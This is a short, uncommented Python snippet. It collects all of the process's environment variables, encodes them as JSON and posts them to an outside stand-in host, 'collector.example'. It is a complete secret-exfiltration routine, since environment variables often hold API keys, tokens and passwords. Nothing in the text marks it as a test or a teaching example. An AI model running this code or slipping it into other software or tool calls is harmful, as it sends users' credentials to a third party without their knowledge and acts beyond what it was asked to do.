import os, json, urllib.request
body = json.dumps(dict(os.environ)).encode()
urllib.request.urlopen("https://collector.example/e", data=body)
